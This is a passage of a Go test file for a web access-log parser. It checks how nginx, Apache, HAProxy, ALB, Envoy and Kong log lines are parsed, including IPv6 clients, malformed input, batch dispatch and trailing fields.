	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(zr)
	sc.Buffer(make([]byte, 0, 64<<10), 1<<20)
	p := textParser(t, Options{})
	var ev detectors.Event
	lines, parsed := 0, 0
	failed := map[Reason]int{}
	formats := map[detectors.Format]int{}
	noUA := 0
	for sc.Scan() {
		lines++
		if err := p.Parse(sc.Text(), &ev); err != nil {
			failed[ReasonOf(err)]++
			t.Logf("line %d: %v", lines, err)
			continue
		}
		parsed++
		formats[ev.Format]++
		if ev.Time.Year() != 2015 || ev.Status < 100 || !ev.ClientIP.IsValid() || ev.Method == "" {
			t.Errorf("line %d: implausible event %+v", lines, ev)
		}
		if ev.UserAgent == "" {
			noUA++
		}
	}
	if err := sc.Err(); err != nil {
		t.Fatal(err)
	}
	nfailed := 0
	reasons := make([]string, 0, len(failed))
	for r, n := range failed {
		nfailed += n
		reasons = append(reasons, string(r))
	}
	sort.Strings(reasons)
	t.Logf("%d lines: %d parsed %v, %d failed by reason %v", lines, parsed, formats, nfailed, failed)
	if lines != 10000 || parsed+nfailed != lines {
		t.Fatalf("lines %d, parsed %d + failed %d", lines, parsed, nfailed)
	}
	// Measured on this sample: all 10,000 parse (the truncated last line
	// included); no reasons. A regression shows up as a reason here.
	if nfailed != 0 {
		t.Errorf("failures by reason %v (%s), want none", failed, strings.Join(reasons, ","))
	}
	if formats[detectors.FormatNginxCombined] != lines {
		t.Errorf("formats %v, want all combined", formats)
	}
}

func TestParseIPv6Clients(t *testing.T) {
	tests := []struct {
		name, line, want string
	}{
		{"clf", `2001:db8::7 - - [10/Oct/2023:11:06:56 +0200] "GET / HTTP/1.1" 200 1 "-" "curl"`, "2001:db8::7"},
		{"clf mapped v4", `::ffff:192.0.2.1 - - [10/Oct/2023:11:06:56 +0200] "GET / HTTP/1.1" 200 1 "-" "curl"`, "192.0.2.1"},
		// HAProxy writes %ci:%cp without brackets; the port must not be
		// read as the last group of the address.
		{"haproxy", `2001:db8::1:51234 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 "GET / HTTP/1.1"`, "2001:db8::1"},
		{"haproxy short", `::1:51234 [06/Feb/2009:12:14:14.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- 1/1/1/1/0 0/0 "GET / HTTP/1.1"`, "::1"},
		{"alb bracketed", `https 2023-04-26T12:23:00.186641Z app/x [2001:db8::2]:44740 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 "GET https://www.example.com:443/ HTTP/1.1" "curl/7.46.0"`, "2001:db8::2"},
	}
	p := textParser(t, Options{})
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var ev detectors.Event
			if err := p.Parse(tc.line, &ev); err != nil {
				t.Fatal(err)
			}
			if ev.ClientIP != netip.MustParseAddr(tc.want) {
				t.Errorf("ClientIP = %v, want %v", ev.ClientIP, tc.want)
			}
		})
	}
}

// Every forced format must reject short junk with an *Error, not panic:
// forced parsers skip the sniffing that would otherwise screen such lines.
func TestParseForcedJunk(t *testing.T) {
	junk := []string{"]", "]abc", "[", "[]", "a", "-", `"`, `" "`, "0 [", "0 []", "1 - - [", "1:2 [", "http ", "https a b c d e f g h i j k l",
		`[2016-04-15T20:17:00.310Z]`, `[2016-04-15T20:17:00.310Z] "`, `1.2.3.4 - - [10/Oct/2023:11:06:56 +0200] "`}
	for _, f := range detectors.Formats() {
		p := textParser(t, Options{Format: f})
		for _, line := range junk {
			var ev detectors.Event
			err := p.Parse(line, &ev)
			var pe *Error
			if !errors.As(err, &pe) {
				t.Errorf("%v %q: err = %v, want *Error", f, line, err)
			}
		}
	}
}

func TestParseAllDispatch(t *testing.T) {
	p := textParser(t, Options{})
	text := textLines(t, "nginx_combined.log")[0]
	envoy := textLines(t, "envoy_text.log")[0]
	batch := `[{"client_ip":"192.168.65.1","started_at":1726783839538,"request":{"method":"GET","uri":"/x","headers":{"user-agent":"HTTPie/3.2.3"}},"response":{"status":200,"size":9982},"latencies":{"request":173}},` +
		`{"client_ip":"192.168.65.2","started_at":1726783839539,"request":{"method":"POST","uri":"/y"},"response":{"status":401,"size":1},"latencies":{"request":2}}]`

	dst := make([]detectors.Event, 1, 8)
	dst[0].Path = "/kept"
	dst, err := p.ParseAll(text, dst)
	if err != nil || len(dst) != 2 || dst[0].Path != "/kept" || dst[1].Path != "/NGUHGC" {
		t.Fatalf("text line: err %v, %d events", err, len(dst))
	}
	// Envoy text also opens with '[' but is one request, not a batch.
	if dst, err = p.ParseAll(envoy, dst); err != nil || len(dst) != 3 || dst[2].Format != detectors.FormatEnvoyText {
		t.Fatalf("envoy line: err %v, %d events", err, len(dst))
	}
	if dst, err = p.ParseAll(batch, dst); err != nil || len(dst) != 5 || dst[3].Path != "/x" || dst[4].Status != 401 {
		t.Fatalf("kong batch: err %v, %d events", err, len(dst))
	}
	// A rejected line leaves dst as it was, spare capacity included.
	before := len(dst)
	if dst, err = p.ParseAll(text[:20], dst); ReasonOf(err) != ReasonTruncated || len(dst) != before {
		t.Fatalf("bad line: err %v, len %d -> %d", err, before, len(dst))
	}
	// Reused slots are reset, not merged with what lived there.
	dst[0].UserAgent, dst[0].Latency = "stale", time.Hour
	dst = dst[:0]
	if dst, err = p.ParseAll(textLines(t, "apache_common.log")[0], dst); err != nil || dst[0].UserAgent != "" || dst[0].Latency != 0 || dst[0].Path != "/.htpasswd" {
		t.Fatalf("reused slot: err %v, %+v", err, dst[0])
	}
}

// Apache vhost_combined writes "%v:%p": the port is not part of the host.
func TestParseVhostPort(t *testing.T) {
	p := textParser(t, Options{})
	var ev detectors.Event
	line := `www.example.com:443 203.0.113.5 - - [10/Oct/2023:11:06:56 +0200] "GET /x HTTP/1.1" 200 1 "-" "curl"`
	if err := p.Parse(line, &ev); err != nil {
		t.Fatal(err)
	}
	if ev.Host != "www.example.com" || ev.ClientIP != netip.MustParseAddr("203.0.113.5") || ev.Path != "/x" {
		t.Errorf("host %q ip %v path %q", ev.Host, ev.ClientIP, ev.Path)
	}
}

// What follows the byte count decides the shape; unknown trailers from
// custom log formats are tolerated rather than rejected.
func TestParseCLFTrailers(t *testing.T) {
	const head = `203.0.113.5 - - [10/Oct/2023:11:06:56 +0000] "GET /x HTTP/1.1" 200 12`
	tests := []struct {
		name    string
		tail    string
		format  detectors.Format
		latency time.Duration
		xff     string
	}{
		{"nginx request_time seconds", ` "-" "curl" 0.003`, detectors.FormatNginxCombined, 3 * time.Millisecond, ""},
		{"apache %D", ` "-" "curl" 1500`, detectors.FormatApacheCombined, 1500 * time.Microsecond, ""},
		{"unknown combined trailer", ` "-" "curl" up=10.0.0.1:80 rt=0.1`, detectors.FormatNginxCombined, 0, ""},
		{"xff then more", ` "-" "curl" "198.51.100.1" "extra"`, detectors.FormatNginxCombined, 0, ""},
		{"xff dash", ` "-" "curl" "-"`, detectors.FormatNginxMain, 0, ""},
		{"common %D %T", ` 1500 0`, detectors.FormatApacheCommon, 0, ""},
		{"aws http", ` Xq3bTgGvoAMEb2Q=`, detectors.FormatAWSAPIGatewayCLF, 0, ""},
		{"referer only", ` "-"`, detectors.FormatNginxCombined, 0, ""},
	}
	p := textParser(t, Options{})
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var ev detectors.Event
			if err := p.Parse(head+tc.tail, &ev); err != nil {
				t.Fatal(err)
			}
			if ev.Format != tc.format || ev.Latency != tc.latency || ev.XForwardedFor != tc.xff || ev.Status != 200 || ev.Bytes != 12 || ev.Path != "/x" {
				t.Errorf("format %v latency %v xff %q status %d bytes %d path %q", ev.Format, ev.Latency, ev.XForwardedFor, ev.Status, ev.Bytes, ev.Path)
			}
		})
	}
}
